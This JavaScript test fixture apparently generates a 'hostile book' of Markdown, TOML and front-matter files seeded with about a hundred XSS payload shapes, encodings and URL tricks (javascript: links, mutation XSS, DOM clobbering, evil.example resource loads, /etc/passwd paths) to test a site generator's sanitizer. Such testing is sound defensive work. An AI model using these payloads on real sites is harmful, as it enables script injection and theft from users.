// A hostile book: shapes of script injection in every place where an author can write.
// Each calls `pwned(NAME)`, which the tests watch.
// Written from the public knowledge of what browsers run; the list is ours.

/** What does not belong to a page, as an author could write it. `§` becomes the call. */
const shapes = {
  script: "<script>§</script>",
  "script with a space": "<script >§</script >",
  "script in capitals": "<ScRiPt>§</sCrIpT>",
  "script that is not closed": "<script>§//",
  "script in script": "<scr<script>ipt>§</scr</script>ipt>",
  "script from data": '<script src="data:text/javascript,§"></script>',
  "script by slash": "<script/x>§</script>",
  "script as a module": '<script type="module">§</script>',
  "image handler": '<img src=x onerror="§">',
  "image handler without quotes": "<img src=x onerror=§>",
  "image handler with slashes": "<img/src=x/onerror=§>",
  "image handler with a tab": "<img src=x onerror\t=\t§>",
  "image handler with a form feed": "<img\fsrc=x\fonerror=§>",
  "image handler with entities": "<img src=x onerror=&#112;wned(&quot;entity&quot;)>",
  "image with a broken attribute": '<img """><script>§</script>">',
  "image in backquotes": "<img src=`x` onerror=§>",
  "image set": '<img srcset="x 1x" onerror="§">',
  "svg onload": '<svg onload="§">',
  "svg onload by slash": "<svg/onload=§>",
  "svg script": "<svg><script>§</script></svg>",
  "svg script from href": '<svg><script href="data:text/javascript,§"></script></svg>',
  "svg animate": '<svg><a><animate attributeName=href values="javascript:§"/><text x=20 y=20>click</text></a></svg>',
  "svg set": '<svg><set attributeName=onmouseover to="§"/></svg>',
  "svg foreign object": '<svg><foreignObject><iframe onload="§"></iframe></foreignObject></svg>',
  "svg use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=§></svg>#x"/></svg>',
  "svg style": "<svg><style><img src=x onerror=§></style></svg>",
  "math link": '<math><maction actiontype="statusline#x" xlink:href="javascript:§">click</maction></math>',
  "math mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;"></mglyph></table></mtext></math>',
  "style mutation": "<svg></p><style><a id=\"</style><img src=1 onerror=§>\">",
  "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=§>"></noscript>',
  "template mutation": "<template><img src=x onerror=§></template>",
  "comment mutation": "<!--><img src=x onerror=§>-->",
  "comment with a bang": "<!-- --!><img src=x onerror=§>",
  "title mutation": "</title><img src=x onerror=§>",
  "textarea mutation": "</textarea><img src=x onerror=§>",
  "select mutation": "<select><option></select><img src=x onerror=§>",
  "cdata": "<![CDATA[<img src=x onerror=§>]]>",
  "processing instruction": "<?xml x><img src=x onerror=§>",
  iframe: '<iframe src="javascript:§"></iframe>',
  "iframe document": '<iframe srcdoc="<script>parent.§</script>"></iframe>',
  "iframe handler": '<iframe onload="§"></iframe>',
  object: '<object data="javascript:§"></object>',
  "object handler": '<object data="x" onerror="§"></object>',
  embed: '<embed src="javascript:§">',
  applet: '<applet code="x" onerror="§"></applet>',
  frameset: '<frameset onload="§"><frame src="javascript:§"></frameset>',
  "body handler": '<body onload="§">',
  "html handler": '<html onmouseover="§">',
  base: '<base href="https://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=javascript:§">',
  "refresh to data": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>§</script>">',
  "policy of their own": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  "linked style": '<link rel="stylesheet" href="https://evil.example/x.css" onload="§" onerror="§">',
  "prefetch": '<link rel="prefetch" href="https://evil.example/">',
  style: '<style>@import "https://evil.example/x.css"; * { background: url("https://evil.example/x") }</style>',
  "style attribute": '<p style="background:url(https://evil.example/x);position:fixed;inset:0">over all</p>',
  "animation handler": '<p style="animation:x" onanimationstart="§">text</p>',
  "form action": '<form action="javascript:§"><input type=submit id=send value=send></form>',
  "form action of a button": '<form><button formaction="javascript:§">press</button></form>',
  "focus handler": "<input autofocus onfocus=§>",
  "focus handler of a text": '<p tabindex=1 autofocus onfocus="§">text</p>',
  "toggle handler": '<details open ontoggle="§"><summary>x</summary></details>',
  "popover handler": '<button popovertarget=x>press</button><p popover id=x onbeforetoggle="§">text</p>',
  "pointer handler": '<p onpointerover="§" onmouseover="§" onclick="§">text</p>',
  "wheel and key handlers": '<p onwheel="§" onkeydown="§" contenteditable>text</p>',
  "video handler": '<video src=x onerror="§"></video>',
  "video source": '<video><source onerror="§"></video>',
  "audio handler": '<audio src=x onerror="§"></audio>',
  "video poster": '<video poster="https://evil.example/x.png"></video>',
  "marquee handler": '<marquee onstart="§">text</marquee>',
  link: '<a href="javascript:§">press</a>',
  "link in capitals": '<a href="JaVaScRiPt:§">press</a>',
  "link with a tab": '<a href="java\tscript:§">press</a>',
  "link with an entity": '<a href="java&#x09;script:§">press</a>',
  "link with a control character": '<a href="&#1;javascript:§">press</a>',
  "link with a colon entity": '<a href="javascript&colon;§">press</a>',
  "link to a page of data": '<a href="data:text/html,<script>§</script>">press</a>',
  "link with vbscript": '<a href="vbscript:§">press</a>',
  "link to a blob": '<a href="blob:§">press</a>',
  "link with a handler": '<a href="#x" onclick="§">press</a>',
  "link of a map": '<map name=m><area href="javascript:§" shape=default></map><img usemap="#m" src=x>',
  "image of another site": '<img src="https://evil.example/x.png">',
  "clobbering": '<form id=search name=search><input name=querySelector></form><img name=getElementById><a id=q></a><a id=results></a><a id="Casebook-search"></a>',
  "clobbering the root": "<p data-root=https://evil.example/ id=toc><a id=menu href=x>text</a></p>",
  "quote and handler": '" onmouseover="§" x="',
  "single quote and handler": "' onmouseover='§' x='",
  "quote and tag": '"><img src=x onerror=§>',
  "end of a script": "</script><script>§</script>",
  "end of a style": "</style><script>§</script>",
  "template of a page": "{{ 7 * 7 }}{% include 'x' %}${pwned(1)}#{pwned(1)}<%= pwned(1) %>",
  "null byte entity": "<img src=x&#0; onerror=§>",
  "overlong tag": `<img ${"x ".repeat(300)}src=x onerror=§>`,
  "wide letters": "＜script＞§＜/script＞",
  "text direction": "\u202e<script>§</script>\u202c",
  "xml namespace": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">§</x:script>',
  "html in an attribute": '<p title="<img src=x onerror=§>">text</p>',
  "nested quotes": `<a title='"><img src=x onerror=§>' href="x">text</a>`,
};

/** Targets of Markdown links, images and fields that are addresses. */
const targets = [
  "javascript:§", "JAVASCRIPT:§", " javascript:§", "java\tscript:§", "&#106;avascript:§", "javascript&colon;§", "\u0001javascript:§",
  "data:text/html,<script>§</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==", "vbscript:§", "file:///etc/passwd",
  "//evil.example/x", "https:evil.example", "javascript://example.org/%0a§", "x' onmouseover='§", 'x" onmouseover="§', "x\" onerror=\"§",
  "view-source:javascript:§", "feed:javascript:§", "jar:javascript:§", "../../../../etc/passwd", "blob:x", "filesystem:x",
];

const call = (text, name) => text.replaceAll("§", `pwned(${JSON.stringify(name).replaceAll('"', "`")})`);
const yaml = (text) => JSON.stringify(text);

/** The files of the book. `html` is the setting for raw HTML. */
export function hostile(html = "sanitize") {
  const names = Object.keys(shapes);
  const shape = (name) => call(shapes[name], name);
  const all = names.map(shape);
  const oneLine = (text) => text.replace(/[\n\r]/g, " ");
  const pick = (at) => oneLine(all[at % all.length]);
  const links = targets.map((target) => call(target, `target ${target.slice(0, 20)}`));
  const files = {
    "book.toml": `[book]\ntitle = ${yaml(shape("image handler") + shape("end of a script"))}\ndescription = ${yaml(shape("quote and tag"))}\n`
      + `[site]\nurl = "https://docs.example/wiki/"\nrepository = "https://code.example/x"\n`
      + `[markdown]\nhtml = "${html}"\n[kinds.control]\ntitle = ${yaml(shape("image handler"))}\nplural = ${yaml(shape("svg onload"))}\nprefix = "C"\n`
      + `[roles.controls]\nlabel = ${yaml(shape("image handler"))}\ninverse = ${yaml(shape("quote and tag"))}\n`,
    "content/index.md": `---\ntitle: ${yaml(shape("title mutation"))}\ndescription: ${yaml(shape("quote and handler"))}\n---\n\nText.\n`,
    "content/controls/C-001.md": `---\nid: C-001\ntitle: ${yaml(shape("image handler"))}\n---\nText.\n`,
    "content/assumptions/many.md": `---\ntitle: ${yaml(shape("svg onload"))}\n---\n\n${names.map((name, at) =>
      `## ${oneLine(shape(name))} {#A-XSS-${String(at + 1).padStart(3, "0")}}\n\n\`\`\`entry\ntags: [${yaml(pick(at))}]\nalso: [${yaml(pick(at + 1))}]\n\`\`\`\n\nText.\n`).join("\n")}`,
  };
  names.forEach((name, at) => {
    const text = shape(name);
    const line = oneLine(text);
    const label = line.replaceAll('"', "#quot;");
    const number = String(at + 1).padStart(3, "0");
    files[`content/guide/${number}-page.md`] = [
      `---\ntitle: ${yaml(text)}\ndescription: ${yaml(text)}\ntags: [${yaml(text)}]\n---\n`,
      text, "", `A line with ${line} in it.`, "", `## ${line}`, "", `## Heading {#${line.replace(/[\s{}]/g, "")}}`, "",
      `- ${line}`, `- [ ] ${line}`, "", `> ${line}`, "", `| ${line.replaceAll("|", "\\|")} | x |`, "| --- | --- |", `| x | ${line.replaceAll("|", "\\|")} |`, "",
      `[${line.replace(/[[\]]/g, "")}](second.md "${line.replaceAll('"', "&quot;")}")`, "", `![${line.replace(/[[\]]/g, "")}](x.png)`, "",
      `\`\`\`rust title="${line}" {1}`, text, "```", "", `\`\`\`${line.replaceAll("`", "")}`, text, "```", "", "```mermaid dfd", "flowchart LR", `  a["${label}"] -->|"${label}"| b`, `  subgraph s["x ${label}"]`, "  b", "  end", `  click a "${label}"`, "```", "",
      `[[T-XSS-${number}|${line.replace(/[[\]|]/g, "")}]] [[${line.replace(/[[\]|]/g, "")}]]`, "", `Term\n: ${line}`, "", `Note.[^x]\n\n[^x]: ${line}`, "", `$${line}$`, "",
      "> [!NOTE]", `> ${line}`, "", `<div>${text}</div>`, "", "```list", `kind: threat`, `tag: ${yaml(text)}`, "```", "",
    ].join("\n");
    files[`content/threats/x${number}.md`] = [
      "---", `id: T-XSS-${number}`, `title: ${yaml(text)}`, "stride: [spoofing]", "severity: high", `applies-to: [${yaml(text)}]`, `tags: [${yaml(text)}]`,
      `also: [${yaml(text)}]`, `aliases: [${yaml(`T-OLD-${number}`)}]`, "requirements: [R-XSS-001]", "controls: [C-001]", `references: [CWE-79, ${yaml(text)}, ${yaml(links[at % links.length])}]`,
      `source: ${yaml(text)}`, `prerequisites: ${yaml(text)}`, `action: ${yaml(text)}`, `impact: ${yaml(text)}`, `goal: ${yaml(text)}`, `assets: ${yaml(text)}`, "---", "", text, "",
    ].join("\n");
  });
  files["content/guide/links.md"] = `---\ntitle: Links\n---\n\n${links.map((target, at) => [
    `[press ${at}](${target})`, `[press ${at}](<${target}>)`, `![press ${at}](<${target}>)`, `<${target}>`, `[press ${at}][r${at}]\n\n[r${at}]: <${target}>`, `<a href="${target.replaceAll('"', "&quot;")}">press</a>`,
    `<img src="${target.replaceAll('"', "&quot;")}" alt="x">`].join("\n\n")).join("\n\n")}\n`;
  files["content/requirements/R-XSS-001.md"] = `---\nid: R-XSS-001\ntitle: ${yaml(shape("quote and tag"))}\n---\nText.\n`;
  files["content/models/m/index.md"] = [
    "---", "id: M-XSS-001", `title: ${yaml(shape("image handler"))}`, `description: ${yaml(shape("svg onload"))}`, "size: small", `team: ${yaml(shape("quote and tag"))}`, "date: 2026-01-01", "---", "",
    "```threats", ...names.flatMap((name, at) => { const text = yaml(shape(name)); return at % 2
      ? [`- use: T-XSS-${String(at + 1).padStart(3, "0")}`, `  on: [${text}]`, `  why: ${text}`, `  note: ${text}`, `  tests: [${text}]`, "  response: accept", "  status: accepted", `  by: ${text}`]
      : [`- id: ${yaml(`X-${at}`)}`, `  title: ${text}`, `  owner: ${text}`, `  ticket: ${text}`, "  response: accept", "  status: accepted", `  why: ${text}`]; }), "```", "",
    "```assumptions", ...names.flatMap((name, at) => [`- id: Y-${at}`, `  title: ${yaml(shape(name))}`, `  note: ${yaml(shape(name))}`]), "```", "",
    "```requirements", ...names.flatMap((name, at) => [`- id: Z-${at}`, `  title: ${yaml(shape(name))}`, `  why: ${yaml(shape(name))}`]), "```", "",
    "```reviews", `- date: 2026-01-01\n  by: ${yaml(shape("image handler"))}\n  how: meeting\n  outcome: approved\n  notes: ${yaml(shape("svg onload"))}`, "```", "",
  ].join("\n");
  files["content/summary-of-nothing.md"] = `${names.map((name) => `# ${oneLine(shape(name))}\n\n${shape(name)}`).join("\n\n")}\n`;
  return files;
}

/** Queries for the search: each shape, as a reader may be sent it in an address. */
export function queries() {
  return Object.keys(shapes).map((name) => call(shapes[name], `query ${name}`));
}

/** Ways to write the same, which a browser may read as it was meant. */
const writings = {
  plain: (text) => text,
  "in capitals": (text) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  "entities once more": (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;"),
  "numbers for letters": (text) => text.replace(/(script|data|onerror|onload)/gi, (word) => [...word].map((c) => `&#${c.charCodeAt(0)};`).join("")),
  "percent signs": (text) => text.replace(/(javascript|data|vbscript):/gi, (word) => word.replace(":", "%3a")),
  "in a tag that is not closed": (text) => `<b title="${text}`,
};

/** Places where an author can write: an input as the Markdown of each. */
const sinks = {
  // The comment ends one that an input left open.
  paragraph: (text) => `${text}\n\n<!-- -->`,
  sentence: (text) => `Words ${text} and words.`,
  heading: (text) => `## ${text}`,
  list: (text) => `- ${text}`,
  quotation: (text) => `> [!NOTE] ${text}\n> ${text}`,
  box: (text) => `!!! note "${text.replaceAll('"', "'")}"\n    ${text}`,
  table: (text) => `| a |\n| --- |\n| ${text.replaceAll("|", "\\|")} |`,
  link: (text) => `[${text.replace(/[[\]]/g, "")}](second.md "${text.replaceAll('"', "&quot;")}") [[${text.replace(/[[\]|]/g, "")}]]`,
  picture: (text) => `![${text.replace(/[[\]]/g, "")}](x.png "${text.replaceAll('"', "&quot;")}")`,
  code: (text) => `\`\`\`js title="${text.replaceAll('"', "'").replaceAll("`", "'")}" tab="${text.replaceAll('"', "'").replaceAll("`", "'")}"\n${text}\n\`\`\``,
  term: (text) => `Term\n: ${text}`,
  html: (text) => `<div title='${text.replaceAll("'", '"')}'>${text}</div>`,
};

/** A book of one page for each sink, with every shape in every writing; and how many inputs. */
export function corpus() {
  const inputs = Object.values(writings).flatMap((written, at) => Object.keys(shapes)
    .map((name) => written(call(shapes[name], `${at} ${name}`)).replace(/[\n\r]/g, " ")));
  const files = { "content/index.md": "# Home\n" };
  for (const [name, sink] of Object.entries(sinks)) {
    files[`content/${name}.md`] = `---\ntitle: ${name}\n---\n\n${inputs.map((text, at) => `Input ${at}.\n\n${sink(text)}\n`).join("\n")}`;
  }
  files["content/models/m.md"] = `---\nid: M-XSS-001\ntitle: Fields\n---\n\n\`\`\`threats\n${inputs.map((text, at) =>
    `- id: X-${at}\n  title: ${yaml(text)}\n  note: ${yaml(text)}\n`).join("")}\`\`\`\n`;
  return { files, inputs: inputs.length, pages: [...Object.keys(sinks).map((name) => `${name}.html`), "models/m.html", "status.html"] };
}
